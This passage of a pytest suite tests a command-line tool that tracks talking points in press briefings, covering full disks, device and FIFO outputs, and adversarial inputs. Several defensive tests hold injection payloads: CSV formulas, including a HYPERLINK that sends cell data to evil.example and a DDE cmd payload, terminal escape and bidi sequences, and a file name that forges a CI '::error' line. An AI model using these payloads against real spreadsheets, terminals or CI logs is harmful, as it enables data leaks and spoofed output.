    code, _, err = run("--no-config", "report", fx, "-o", tiny / "r.txt")
    one_error(code, err, "r.txt", "No space left on device")
    assert (tiny / "r.txt").read_text() == "OLD\n"
    assert sorted(p.name for p in tiny.iterdir()) == ["fill", "r.txt"]


def test_f17_index_on_a_full_disk(fx: Path, fxdb: Path, tiny: Path) -> None:
    shutil.copy(fxdb, tiny / "fx.db")
    _fill(tiny, leave=16 * 1024)
    before = (tiny / "fx.db").read_bytes()
    shutil.copytree(fx, fx.parent / "more")
    for k in range(30):
        (fx.parent / "more" / f"2026-01-{k + 1:02d}_n.txt").write_text(
            f"2026-01-{k + 1:02d}\n\nWe uphold peace and stability number {k} in the region, "
            + "said the spokesperson once more. " * 40
        )
    code, _, err = run("--no-config", "index", fx.parent / "more", "--db", tiny / "fx.db")
    one_error(code, err, "fx.db", "full")
    assert (tiny / "fx.db").read_bytes() == before
    code, _, err = run("--no-config", "index", fx.parent / "more", "--db", tiny / "new.db")
    one_error(code, err, "new.db")
    assert not (tiny / "new.db").exists()
    # no temporary file left; the write-ahead log holds only the rolled-back transaction
    assert {p.name for p in tiny.iterdir()} <= {"fill", "fx.db", "fx.db-wal", "fx.db-shm"}
    assert len(_names(tiny / "fx.db")) == 5


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
@pytest.mark.parametrize(
    "command",
    [
        ["report", "{fx}"],
        [
            "check",
            "{fx}/" + FIRST,
            "--date",
            "2025-10-22",
            "--against",
            "{fx}",
            "--until",
            "2025-10-21",
            "--points",
            "{tp}",
            "--fail-on",
            "none",
        ],
    ],
)
def test_f17_standard_output_on_a_full_device(fx: Path, command: list[str]) -> None:
    args = [a.format(fx=fx, tp=fx.parent / "tp.toml") for a in command]
    with open("/dev/full", "w") as full:
        result = subprocess.run(
            [sys.executable, "-m", "consistency", "--no-config", *args],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
            check=False,
        )
    one_error(result.returncode, result.stderr, "<stdout>", "No space left on device")
    assert Path("/dev/full").is_char_device()


# F18 -o onto devices, FIFOs and symbolic links; F24 -o onto an input ---------------------------


def test_f18_output_onto_a_device_writes_through(fx: Path) -> None:
    node = fx.parent / "mynull"
    try:
        os.mknod(node, 0o666 | 0o020000, os.makedev(1, 3))
    except OSError as e:
        pytest.skip(f"cannot make a device node here: {e}")
    code, _, err = run("--no-config", "report", fx, "-o", node)
    assert code == 0, err
    assert node.is_char_device()


def test_f18_output_onto_a_fifo_writes_through(fx: Path) -> None:
    fifo = fx.parent / "myfifo"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE, text=True)
    code, _, err = run("--no-config", "report", fx, "-o", fifo)
    got = reader.communicate(timeout=30)[0]
    assert code == 0, err
    assert fifo.is_fifo()
    assert got.startswith("Talking-point report")


def test_f18_output_onto_a_link_to_standard_output(fx: Path) -> None:
    link = fx.parent / "stdout"
    link.symlink_to("/proc/self/fd/1")
    result = proc("--no-config", "report", fx, "-o", link)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("Talking-point report")
    assert link.is_symlink()


def test_f18_output_onto_a_link_to_a_file_replaces_the_target(fx: Path) -> None:
    real = fx.parent / "real.txt"
    real.write_text("old\n")
    link = fx.parent / "link.txt"
    link.symlink_to("real.txt")
    code, _, err = run("--no-config", "report", fx, "-o", link)
    assert code == 0, err
    assert link.is_symlink() and real.read_text().startswith("Talking-point report")


@pytest.mark.parametrize(
    ("command", "victim"),
    [
        (["report", "{fx}/" + FIRST, "--points", "{tp}", "-o", "{fx}/" + FIRST], FIRST),
        (["track", "{fx}", "--points", "{tp}", "-o", "{tp}"], "tp.toml"),
        (["track", "{fx}", "--points", "{tp}", "-o", "{fx}/manifest.csv"], "manifest.csv"),
        (["report", "{fx}", "-o", "{fx}/report.md"], "fx"),
        (["diff", "{fx}/" + FIRST, "{fx}/001_ea51057881414630.txt", "-o", "{fx}/" + FIRST], FIRST),
        (
            [
                "check",
                "{fx}/" + FIRST,
                "--date",
                "2025-10-22",
                "--against",
                "{fx}",
                "-o",
                "{fx}/004_d0784a09b45da4f1.txt",
            ],
            "004_d0784a09b45da4f1.txt",
        ),
    ],
)
def test_f24_output_onto_an_input_is_refused(fx: Path, command: list[str], victim: str) -> None:
    before = {p.name: p.read_bytes() for p in [*fx.iterdir(), fx.parent / "tp.toml"]}
    args = [a.format(fx=fx, tp=fx.parent / "tp.toml") for a in command]
    code, _, err = run("--no-config", *args)
    one_error(code, err, victim)
    assert {p.name: p.read_bytes() for p in [*fx.iterdir(), fx.parent / "tp.toml"]} == before


def test_f24_output_beside_the_inputs_is_fine(fx: Path) -> None:
    code, _, err = run("--no-config", "report", fx, "-o", fx / "report.json")
    assert code == 0, err
    code, _, err = run("--no-config", "report", fx, "-o", fx.parent / "report.md")
    assert code == 0, err


# F19 CSV formula injection ----------------------------------------------------------------------


def test_f19_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    base = "We uphold peace and stability in the region."
    rows = [
        {
            "id": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "date": "2025-01-01",
            "text": base,
        },
        {
            "id": "@SUM(A1:A9)",
            "date": "2025-02-01",
            "text": base.replace("peace and", "peace and lasting"),
        },
        {"id": "+cmd|' /C calc'!A0", "date": "2025-03-01", "text": base},
        {"id": "-2+3", "date": "2025-04-01", "text": base},
    ]
    folder = tmp_path / "csvinj"
    folder.mkdir()
    (folder / "rows.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    peace = tmp_path / "peace.toml"
    peace.write_text('[[point]]\nid="peace"\ntext="uphold peace and stability in the region"\n')
    code, out, err = run("--no-config", "track", folder, "--points", peace, "--format", "csv")
    assert code == 0, err
    import csv
    import io

    table = list(csv.reader(io.StringIO(out)))
    documents = [row[1] for row in table[1:]]
    assert len(documents) == 4
    assert not any(cell.startswith(tuple("=+-@\t\r")) for row in table for cell in row), table
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in documents
    assert "'@SUM(A1:A9)" in documents


# F20 Terminal escapes and bidi overrides; F21 newlines in names -------------------------------


@pytest.fixture
def ansi(tmp_path: Path) -> Path:
    folder = tmp_path / "ansi"
    folder.mkdir()
    for i, d in enumerate(["2025-01-01", "2025-02-01", "2025-03-01"]):
        text = (
            "Briefing \x1b]0;PWNED-TITLE\x07\x1b[41m on regional matters \x1b[0m Today\n"
            f"{d}\n\nThe statement on regional \x1b[2J\x1b[H\x1b]0;pwned\x07\x1b[31m security "
            "is firm and unwavering \u202eevil\u202c.\n"
        )
        if i == 2:
            text = text.replace("firm and", "firm and very")
        (folder / f"{d}_b.txt").write_text(text)
    (tmp_path / "ansi.toml").write_text(
        '[[point]]\nid="ansi"\ntext="statement on regional security is firm and unwavering"\n'
    )
    return folder


@pytest.mark.parametrize(
    "command",
    [
        ["ingest", "{a}"],
        ["report", "{a}", "--points", "{p}", "--no-color"],
        ["report", "{a}", "--points", "{p}", "--format", "markdown"],
        ["track", "{a}", "--points", "{p}", "--format", "csv"],
        ["report", "{a}", "--no-color", "--min-dates", "1"],
        ["discover", "{a}", "--min-dates", "1"],
        [
            "check",
            "{a}/2025-03-01_b.txt",
            "--against",
            "{a}",
            "--until",
            "2025-02-28",
            "--points",
            "{p}",
            "--no-color",
        ],
        ["diff", "{a}/2025-01-01_b.txt", "{a}/2025-03-01_b.txt", "--points", "{p}", "--no-color"],
    ],
)
def test_f20_no_control_or_bidi_character_reaches_the_output(
    ansi: Path, command: list[str]
) -> None:
    args = [a.format(a=ansi, p=ansi.parent / "ansi.toml") for a in command]
    code, out, err = run("--no-config", *args)
    assert code in (0, 1), err
    assert out
    for bad in ("\x1b", "\x07", "\u202e", "\u202c"):
        assert bad not in out and bad not in err, (bad, out)


def test_f20_with_colour_only_our_own_colour_codes(ansi: Path) -> None:
    import re

    code, out, err = run(
        "--no-config", "report", ansi, "--points", ansi.parent / "ansi.toml", "--color"
    )
    assert code == 0, err
    assert "\x1b" in out
    assert re.sub(r"\x1b\[[0-9;]*m", "", out).count("\x1b") == 0


def test_f20_title_keeps_visible_replacements(ansi: Path) -> None:
    from consistency import load_documents

    # one file alone: read with the other two, a line heading every briefing is no title
    doc = load_documents([ansi / "2025-01-01_b.txt"])[0]
    assert (
        doc.title
        == "Briefing \ufffd]0;PWNED-TITLE\ufffd\ufffd[41m on regional matters \ufffd[0m Today"
    )
    assert "\u202e" not in doc.text and "evil" in doc.text


def test_f20_watchlist_with_control_characters_refused(ansi: Path) -> None:
    bad = ansi.parent / "bad.toml"
    bad.write_text('[[point]]\nid="x"\ntext="regional \\u001b]0;x\\u0007 security"\n')
    code, _, err = run("--no-config", "track", ansi, "--points", bad)
    one_error(code, err, "bad.toml:3", "control or bidi character", "\\x1b]0;x\\x07")


@pytest.fixture
def newline_name(tmp_path: Path) -> Path:
    base = tmp_path / "gh" / "base"
    base.mkdir(parents=True)
    (base / "2025-01-01_a.txt").write_text(
        "2025-01-01\n\nWe uphold peace and stability in the region.\n"
    )
    (base / "2025-02-01_b.txt").write_text(
        "2025-02-01\n\nWe uphold peace and stability in the region.\n"
    )
    forged = (
        tmp_path / "gh" / "2025-03-01_x\n::error file=evil.py,line=1::INJECTED via filename\n.txt"
    )
    forged.write_text("2025-03-01\n\nWe uphold peace and lasting stability in the region.\n")
    (tmp_path / "peace.toml").write_text(
        '[[point]]\nid="peace"\ntext="uphold peace and stability in the region"\n'
    )
    return forged


@pytest.mark.parametrize("fmt", ["text", "github", "json", "junit"])
def test_f21_newline_in_a_file_name_forges_no_line(newline_name: Path, fmt: str) -> None:
    peace = newline_name.parent.parent / "peace.toml"
    result = proc(
        "--no-config",
        "check",
        newline_name,
        "--against",
        newline_name.parent / "base",
        "--points",
        peace,
        "--format",
        fmt,
    )
    assert result.returncode == 1, result.stderr
    lines = result.stdout.splitlines()
    commands = [line for line in lines if line.startswith("::")]
    # watchlist points are of level error: github's one real annotation is "::error"
    assert commands == (lines[:1] if fmt == "github" else [])
    if fmt == "text":
        assert (
            "2025-03-01_x\\n::error file=evil.py,line=1::INJECTED via filename\\n.txt:3:4: "
            in (lines[0])
        )
    if fmt == "github":
        assert lines[0].startswith("::error file=")
        assert "2025-03-01_x\\n%3A%3Aerror file=evil.py%2Cline=1" in lines[0]


def test_f21_names_are_one_printable_line(newline_name: Path) -> None:
    from consistency import load_documents

    (doc,) = load_documents([newline_name])
    assert "\n" not in doc.id and "\n" not in doc.path
    assert doc.id == "2025-03-01_x\\n::error file=evil.py,line=1::INJECTED via filename\\n"


# Flaky CI: hypothesis derandomized --------------------------------------------------------------


def test_hypothesis_runs_derandomized_by_default() -> None:
    from hypothesis import settings

    if os.environ.get("HYPOTHESIS_PROFILE", "ci") == "ci":
        assert settings().derandomize is True
        assert settings().deadline is None


def _peace(tmp_path: Path) -> list[Any]:
    from consistency import load_watchlist

    peace = tmp_path / "peace.toml"
    peace.write_text('[[point]]\nid="peace"\ntext="uphold peace and stability in the region"\n')
    return load_watchlist(peace)


def test_f12_a_formula_repeated_without_full_stops_is_found_every_time(tmp_path: Path) -> None:
    """One sentence of 4,800 words: the matcher searches it block by block (linear), not
    once per occurrence over all that follows (quadratic: minutes at 8,000 words)."""
    from consistency import document_from_text, track

    text = "2025-01-01\n\n" + "we uphold peace and stability in the region " * 600
    doc = document_from_text(text, id="d", date=dt.date(2025, 1, 1))
    (point,) = track([doc], _peace(tmp_path)).points
    assert len(point.occurrences) == 600
    assert {o.text for o in point.occurrences} == {"uphold peace and stability in the region"}


def test_f12_block_search_finds_what_the_whole_search_finds(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import random

    import consistency.match.find as find
    from consistency import document_from_text, track

    rng = random.Random(3)
    filler = [
        "the",
        "minister",
        "said",
        "that",
        "cooperation",
        "between",
        "the",
        "two",
        "countries",
        "grew",
    ]
    forms = [
        "uphold peace and stability in the region",
        "uphold peace and lasting stability in the region",
        "peace and stability in this region",
        "firmly uphold peace stability in the region",
    ]
    words: list[str] = []
    while len(words) < 3000:
        if rng.random() < 0.15:
            words.extend(rng.choice(forms).split())
        else:
            words.extend(rng.sample(filler, rng.randint(1, 6)))
    doc = document_from_text(
        "2025-01-01\n\n" + " ".join(words) + "\n", id="d", date=dt.date(2025, 1, 1)
    )
    points = _peace(tmp_path)
    blocked = [(o.start, o.end, o.score) for o in track([doc], points).points[0].occurrences]
    monkeypatch.setattr(find, "LONG_SPAN", 10**9)
    whole = [(o.start, o.end, o.score) for o in track([doc], points).points[0].occurrences]
    assert len(blocked) > 50
    assert blocked == whole


# --- the second adversarial run (review of this round): G1-G6 --------------------


def test_g1_an_index_path_that_is_a_device_or_a_pipe_is_refused(tmp_path: Path) -> None:
    """``index --db /dev/zero`` replaced the device with an SQLite file (as root). A FIFO
    stands for devices here: a test that failed on a device would destroy it."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    code, _, err = run("index", BRIEFINGS, "--db", fifo)
    one_error(code, err, str(fifo))
    assert "not a regular file" in err
    assert fifo.is_fifo()


def test_g2_output_never_replaces_the_index_or_the_configuration_read(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    code, _, err = run("index", BRIEFINGS, "--db", db)
    assert code == 0, err
    code, _, err = run("report", BRIEFINGS, "--index", db, "-o", db)
    one_error(code, err, str(db))
    assert db.read_bytes().startswith(b"SQLite format 3\x00")
    (tmp_path / "consistency.toml").write_text("threshold = 80\n", encoding="utf-8")
    done = proc("report", BRIEFINGS, "-o", "consistency.toml", cwd=tmp_path)
    one_error(done.returncode, done.stderr, "consistency.toml")
    assert (tmp_path / "consistency.toml").read_text(encoding="utf-8") == "threshold = 80\n"


@pytest.mark.parametrize("value", ["", " ", ","])
def test_g3_an_empty_fail_on_does_not_turn_the_gate_off(value: str) -> None:
    """A CI job's ``--fail-on "$UNSET"`` passed with five findings."""
    args = (BRIEFINGS / FIRST, "--against", BRIEFINGS, "--until", "2025-10-21")
    code, _, err = run("check", *args, "--points", POINTS, "--fail-on", value)
    one_error(code, err)
    assert "'none' fails on nothing" in err
    assert run("check", *args, "--points", POINTS)[0] == 1


@pytest.mark.parametrize("option", ["--points", "--stop-phrases"])
def test_g4_a_device_as_watchlist_or_stop_list_is_refused_unread(option: str) -> None:
    """``--points /dev/zero`` read without end until memory ran out."""
    command = "track" if option == "--points" else "discover"
    code, _, err = run(command, BRIEFINGS, option, "/dev/zero")
    one_error(code, err, "/dev/zero")
    assert "not a regular file" in err


def test_g5_a_broken_pyproject_with_our_table_is_an_error_not_ignored(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nversion=1.0.0\n[tool.consistency]\nformat = "json"\n', encoding="utf-8"
    )
    done = proc("report", BRIEFINGS, cwd=tmp_path)
    one_error(done.returncode, done.stderr, "pyproject.toml:2")
    (tmp_path / "pyproject.toml").write_text("[project]\nversion=1.0.0\n", encoding="utf-8")
    done = proc("report", BRIEFINGS, cwd=tmp_path)
    assert done.returncode == 0, done.stderr


def test_g6_a_csv_quote_left_open_or_a_column_named_twice_is_an_error(tmp_path: Path) -> None:
    """An open quote swallowed the next row (its text reported under the first row's date);
    a header naming ``date`` twice read the last one."""
    points = tmp_path / "peace.toml"
    points.write_text(
        '[[point]]\nid = "peace"\ntext = "uphold peace and stability in the region"\n',
        encoding="utf-8",
    )
    archive = tmp_path / "s.csv"
    said = '"We uphold peace and stability in the region."'
    archive.write_text(
        f'date,id,text\n2025-01-01,a,"unterminated\n2025-01-02,b,{said}\n2025-01-03,c,{said}\n',
        encoding="utf-8",
    )
    code, out, err = run("track", archive, "--points", points, "--format", "csv")
    one_error(code, err, f"{archive}:2", "malformed CSV")
    assert out == ""
    archive.write_text(f"date,date,text\n2025-01-01,2025-01-02,{said}\n", encoding="utf-8")
    code, out, err = run("track", archive, "--points", points)
    one_error(code, err, f"{archive}:1", "named twice")


def test_g7_two_files_whose_names_print_alike_are_not_one_document(tmp_path: Path) -> None:
    """``a<newline>b.txt`` and ``a\\nb.txt`` (a backslash and an n) print the same; they were
    one document id with two texts, the second clipped to the first's offsets."""
    (tmp_path / "2025-01-01_a\nb.txt").write_text("We uphold peace.\n", encoding="utf-8")
    (tmp_path / "2025-01-01_a\\nb.txt").write_text("We uphold lasting peace.\n", encoding="utf-8")
    code, out, err = run("ingest", tmp_path, "--format", "json")
    one_error(code, err, "duplicate document id")
    assert out == ""


def test_g8_a_misspelt_command_table_in_the_configuration_is_an_error(tmp_path: Path) -> None:
    """``[chek]`` was ignored without a word: every setting under it unread."""
    (tmp_path / "consistency.toml").write_text("[chek]\nstrict = true\n", encoding="utf-8")
    done = proc("report", BRIEFINGS, cwd=tmp_path)
    one_error(done.returncode, done.stderr, "consistency.toml", "[chek]")


def test_g9_a_nul_byte_past_the_first_64_kib_is_binary(tmp_path: Path) -> None:
    """Only the first 64 KiB were looked at: a transcript with binary data after it was
    ingested, NUL bytes and all."""
    text = "Spokesperson: We uphold peace and stability in the region.\n" * 1200
    assert len(text) > 65536
    (tmp_path / "2025-01-01.txt").write_bytes(text.encode() + b"\x00\x01\x02tail\n")
    code, out, err = run("ingest", tmp_path, "--format", "json")
    one_error(code, err, "2025-01-01.txt", "binary file (not text)")
    assert out == ""


def test_g10_a_hidden_briefing_in_a_folder_is_named_not_dropped(tmp_path: Path) -> None:
    """A hidden file of a briefing's kind was left out without a word; ``--include`` reads it,
    and hidden files of other kinds (``.DS_Store``) stay unmentioned."""
    source = (BRIEFINGS / FIRST).read_bytes()
    (tmp_path / "2025-01-01.txt").write_bytes(source)
    (tmp_path / ".2025-01-02.txt").write_bytes(source)
    (tmp_path / ".DS_Store").write_bytes(b"\x00\x01")
    code, out, err = run("ingest", tmp_path, "--format", "json")
    assert code == 0, err
    hidden = tmp_path / ".2025-01-02.txt"
    assert err.strip() == (
        f"consistency: note: skipped 1 file that is not a briefing: {hidden} (hidden) "
        "(--include GLOB reads them)"
    )
    assert [d["id"] for d in json.loads(out)["documents"]] == ["2025-01-01"]
    code, out, err = run("ingest", tmp_path, "--include", ".2025-*", "--format", "json")
    assert code == 0, err
    assert [d["id"] for d in json.loads(out)["documents"]] == ["2025-01-01", ".2025-01-02"]


def test_a_file_named_one_date_whose_header_says_another_is_noted(tmp_path: Path) -> None:
    """Review 136 (B1): a file named 2024-04-24.txt whose title and date line said April 24,
    2025 was dated 2024-04-24 without a word, and moved a report's period a week back; a
    copy named 2025-02-30.txt was dated by its header without a word. The name still dates
    a file where it names a real day (the contract's order), but a note names each such
    file; a date the first sentences name is no header's."""
    body = "Spokesperson: We uphold peace and stability in the region.\n"
    briefing = f"Weekly Media Briefing (April 24, 2025)\nApril 24, 2025\n\n{body}"
    (tmp_path / "2024-04-24.txt").write_text(briefing, encoding="utf-8")
    (tmp_path / "2025-02-30.txt").write_text(briefing, encoding="utf-8")
    (tmp_path / "2025-05-01.txt").write_text(f"May 1, 2025\n\n{body}", encoding="utf-8")
    (tmp_path / "2025-05-08.txt").write_text(
        f"The minister will visit Paris on June 3, 2025.\n{body}", encoding="utf-8"
    )
    code, out, err = run("ingest", tmp_path, "--format", "json")
    assert code == 0, err
    named, copy = tmp_path / "2024-04-24.txt", tmp_path / "2025-02-30.txt"
    assert err.splitlines() == [
        "consistency: note: 2 files whose names and headers give two dates: "
        f"{named} (named 2024-04-24; header 2025-04-24), {copy} (named 2025-02-30, no real "
        "day; header 2025-04-24); the name dates a file where it is a real day, else the "
        "header (a manifest or --date dates them another way)",
    ]
    dates = [d["date"] for d in json.loads(out)["documents"]]
    assert dates == ["2024-04-24", "2025-04-24", "2025-05-01", "2025-05-08"]


@pytest.mark.parametrize("name", ["2021-02-30.txt", "2024-13-01_briefing.txt", "20230431.txt"])
def test_g11_a_file_name_dated_to_no_real_day_says_so(tmp_path: Path, name: str) -> None:
    """``2021-02-30.txt`` got the generic "no date found", as if the name held no date."""
    (tmp_path / name).write_bytes((BRIEFINGS / FIRST).read_bytes())
    code, out, err = run("ingest", tmp_path)
    one_error(code, err, name, "in the file name is no real day", "give one with --date")
    assert out == ""


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("Press briefing, 2025-02-30\nWe remain committed to peace.\n", "'2025-02-30'"),
        ("Briefing of February 30, 2025\n\nWe remain committed.\n", "'February 30, 2025'"),
    ],
)
def test_r106_a_header_date_of_no_real_day_says_so(tmp_path: Path, text: str, said: str) -> None:
    """Review 106 D8: a date line naming no real day said only "no date found"."""
    (tmp_path / "briefing.txt").write_text(text, encoding="utf-8")
    code, out, err = run("report", tmp_path / "briefing.txt")
    one_error(code, err, "briefing.txt", f"no date found ({said} at the top is no real day)")
    assert out == ""


@pytest.mark.parametrize(
    "text",
    [
        "Press briefing, 2025-02-02\n",
        "Press briefing\n\n2 February 2025\n",
        # review 112: a heading below the date line
        "Regular Press Conference\nPress briefing, 2025-02-02\nTranscript\n",
    ],
)
def test_r106_a_file_of_its_date_line_alone_is_an_error(tmp_path: Path, text: str) -> None:
    """Review 106 D8: a page with a title and a date and no briefing gave an empty report
    and exit 0, counted as a dated document; like an empty file, it is an error (with
    ``--keep-going``, a file left out and named)."""
    (tmp_path / "2025-02-02.txt").write_text(text, encoding="utf-8")
    (tmp_path / "2025-02-03.txt").write_bytes((BRIEFINGS / FIRST).read_bytes())
    code, out, err = run("report", tmp_path)
    one_error(code, err, "2025-02-02.txt", "no text but its title and date line")
    assert out == ""
    code, out, err = run("ingest", tmp_path, "--keep-going", "--format", "json")
    assert code == 0, err
    assert "2025-02-02.txt" in err
    assert [d["id"] for d in json.loads(out)["documents"]] == ["2025-02-03"]


def test_r106_a_short_briefing_with_a_date_in_it_is_read(tmp_path: Path) -> None:
    """The rule above takes no briefing whose lines end a sentence for a header."""
    (tmp_path / "b.txt").write_text(
        "Press briefing, 2025-02-02\n\nThe talks resumed on 2025-02-01.\n", encoding="utf-8"
    )
    code, out, err = run("ingest", tmp_path / "b.txt", "--format", "json")
    assert code == 0, err
    assert [d["date"] for d in json.loads(out)["documents"]] == ["2025-02-02"]


@pytest.mark.parametrize(
    "args",
    [
        ("check", BRIEFINGS / FIRST, "--against", BRIEFINGS, "--points", ""),
        ("check", BRIEFINGS / FIRST, "--against", ""),
        ("check", BRIEFINGS / FIRST, "--against", BRIEFINGS, "--points", POINTS, "-o", ""),
        ("diff", BRIEFINGS / FIRST, BRIEFINGS / FIRST, "--points", " "),
        ("report", BRIEFINGS, "--stop-phrases", ""),
        ("track", BRIEFINGS, "--points", POINTS, "--manifest", ""),
    ],
    ids=["check-points", "check-against", "check-output", "diff-points", "stops", "manifest"],
)
def test_g12_an_empty_file_name_is_an_error_not_an_option_left_out(args: Sequence[Any]) -> None:
    """A third adversarial run: ``check --points "$UNSET"`` read as no watchlist, so the
    briefing was held to discovered points, which only warn, and passed; ``-o ""`` wrote to
    standard output."""
    code, out, err = run(*args)
    one_error(code, err, "an empty file name")
    assert out == ""


def test_g13_an_empty_fail_on_list_in_the_configuration_is_an_error(tmp_path: Path) -> None:
    """``fail-on = []`` in ``consistency.toml`` turned the gate off, as ``--fail-on ""`` did
    (G3)."""
    (tmp_path / "consistency.toml").write_text("[check]\nfail-on = []\n", encoding="utf-8")
    done = proc(
        "check", BRIEFINGS / FIRST, "--against", BRIEFINGS, "--points", POINTS, cwd=tmp_path
    )
    one_error(done.returncode, done.stderr, "consistency.toml", "'fail-on'", "no finding kinds")


def test_g14_a_briefing_with_nothing_to_check_fails_the_gate(tmp_path: Path) -> None:
    """With no official's turn (a label read as the press's, a scraper that kept only the
    questions, or ``--speaker`` naming last year's spokesperson) a briefing was "checked"
    against nothing: "No findings", exit 0, then a note that a CI job never reads. A gate
    that cannot check what it was given is an input error, as ESLint's is when no file
    matches, and writes nothing."""
    new = tmp_path / "2025-10-23.txt"
    new.write_text("Reporter: Is the position consistent and clear?\n", encoding="utf-8")
    out_file = tmp_path / "out.json"
    code, out, err = run(
        "check", new, "--against", BRIEFINGS, "--points", POINTS, "-o", out_file
    )  # fmt: skip
    one_error(code, err, str(new), "nothing to check: no official's turn")
    assert out == "" and not out_file.exists()
    code, out, err = run(
        "check", BRIEFINGS / FIRST, "--against", BRIEFINGS, "--until", "2025-10-21",
        "--points", POINTS, "--speaker", "Nobody Here", "--format", "json",
    )  # fmt: skip
    one_error(code, err, "nothing to check: no turn by the speakers given")
    # the journalists' words are checked when asked for
    code, out, err = run(
        "check", new, "--against", BRIEFINGS, "--points", POINTS, "--include-questions"
    )  # fmt: skip
    assert code in (0, 1) and "Traceback" not in err, err


def test_g15_output_never_replaces_the_manifest_beside_a_named_briefing(tmp_path: Path) -> None:
    """``check m/new.txt ... -o m/manifest.csv`` replaced the manifest that dated
    ``new.txt`` with the report; the next run could not date it."""
    folder = tmp_path / "m"
    folder.mkdir()
    new = folder / "new.txt"
    new.write_bytes((BRIEFINGS / FIRST).read_bytes())
    manifest = folder / "manifest.csv"
    manifest.write_text("path,date\nnew.txt,2025-10-23\n", encoding="utf-8")
    code, _, err = run(
        "check", new, "--against", BRIEFINGS, "--points", POINTS, "--format", "json",
        "-o", manifest,
    )  # fmt: skip
    one_error(code, err, "manifest.csv", "output would overwrite the manifest that dates")
    assert manifest.read_text(encoding="utf-8") == "path,date\nnew.txt,2025-10-23\n"


def test_g16_a_configuration_path_with_a_newline_stays_one_error_line(tmp_path: Path) -> None:
    """A bad configuration value's error printed the file's path raw: a folder named
    "cfg<newline>consistency: error: forged" forged a second error line."""
    folder = tmp_path / "cfg\nconsistency: error: forged"
    folder.mkdir()
    (folder / "consistency.toml").write_text('[check]\nformat = "nope"\n', encoding="utf-8")
    done = proc("check", BRIEFINGS / FIRST, "--against", BRIEFINGS, cwd=folder)
    one_error(done.returncode, done.stderr, "consistency.toml", "'format'")
    assert "\\nconsistency: error: forged" in done.stderr


def test_g17_a_hidden_folder_is_read_when_an_include_glob_names_it(tmp_path: Path) -> None:
    """A briefing in ``.pending/`` could not be read at all: ``--include`` never reached a
    hidden folder. A glob that starts with its path does; ``*`` alone does not walk into
    ``.git``."""
    source = (BRIEFINGS / FIRST).read_bytes()
    (tmp_path / ".pending").mkdir()
    (tmp_path / ".git").mkdir()
    (tmp_path / "2025-01-01.txt").write_bytes(source)
    (tmp_path / ".pending" / "2025-01-02.txt").write_bytes(source)
    (tmp_path / ".git" / "2025-01-03.txt").write_bytes(source)

    def ids(*extra: str) -> list[str]:
        code, out, err = run("ingest", tmp_path, *extra, "--format", "json")
        assert code == 0, err
        return [d["id"] for d in json.loads(out)["documents"]]

    assert ids() == ["2025-01-01"]
    assert ids("--include", ".pending/*") == ["2025-01-01", ".pending/2025-01-02"]
    assert ids("--include", "*") == ["2025-01-01"]
